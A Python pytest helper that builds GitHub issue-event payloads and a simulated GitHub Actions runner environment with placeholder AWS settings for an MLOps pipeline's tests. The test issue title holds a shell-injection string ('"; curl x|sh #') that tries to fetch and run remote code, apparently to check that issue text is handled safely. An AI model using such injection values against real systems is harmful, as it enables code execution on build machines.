"""A runner's environment in a temporary folder, and what a step left there."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from mlops_core.entrypoints.runner import Step
from tests.unit.intake.bodies import BUCKET, body

REPOSITORY = "octo/models"
AWS = {
    "INPUT_AWS_REGION": "eu-west-1",
    "INPUT_ROLE_ARN": "arn:aws:iam::111122223333:role/mlops-train",
    "INPUT_BUCKET": BUCKET,
    "INPUT_TABLE": "mlops-ledger",
    "INPUT_STATE_MACHINE_ARN": "arn:aws:states:eu-west-1:111122223333:stateMachine:mlops-pipeline",
    "INPUT_GITHUB_TOKEN": "ghs_x",
}


def labeled(text: str | None = None, **changes: object) -> dict[str, Any]:
    """An ``issues`` payload."""
    payload: dict[str, Any] = {
        "action": "labeled",
        "issue": {
            "number": 7,
            "title": '"; curl x|sh #',
            "body": body() if text is None else text,
            "user": {"login": "bob", "type": "User"},
        },
        "label": {"name": "mlops:train"},
        "repository": {"full_name": REPOSITORY},
        "sender": {"login": "ana", "type": "User"},
    }
    return {**payload, **changes}


def commented(text: str, **changes: object) -> dict[str, Any]:
    """An ``issue_comment`` payload."""
    return {**labeled(), "action": "created", "comment": {"id": 99, "body": text}, **changes}


class Runner:
    """Files and variables as GitHub's runner lays them out."""

    def __init__(self, folder: Path, payload: Mapping[str, object] | None = None, **environ: str) -> None:
        self.folder = folder
        for name in ("output", "summary", "env", "event.json"):
            (folder / name).write_text("", encoding="utf-8")
        if payload is not None:
            (folder / "event.json").write_text(json.dumps(payload), encoding="utf-8")
        self.environ = {
            "GITHUB_OUTPUT": str(folder / "output"),
            "GITHUB_STEP_SUMMARY": str(folder / "summary"),
            "GITHUB_ENV": str(folder / "env"),
            "GITHUB_EVENT_PATH": str(folder / "event.json"),
            "GITHUB_REPOSITORY": REPOSITORY,
            "RUNNER_ENVIRONMENT": "github-hosted",
            **AWS,
            **environ,
        }

    def step(self, monkeypatch: pytest.MonkeyPatch) -> Step:
        """The step in this environment; the toolkit reads the process's own."""
        for name, value in self.environ.items():
            monkeypatch.setenv(name, value)
        return Step(self.environ)

    def outputs(self) -> dict[str, str]:
        """Outputs as the runner would read them: ``name<<delimiter``, lines, ``delimiter``."""
        found: dict[str, str] = {}
        lines = iter(self.read("output").split("\n"))
        for line in lines:
            if not line:
                continue
            name, _, delimiter = line.partition("<<")
            assert delimiter.startswith("ghadelimiter_"), line
            value = []
            for inner in lines:
                if inner == delimiter:
                    break
                value.append(inner)
            found[name] = "\n".join(value)
        return found

    def read(self, name: str) -> str:
        """A file of the runner."""
        return (self.folder / name).read_text(encoding="utf-8")
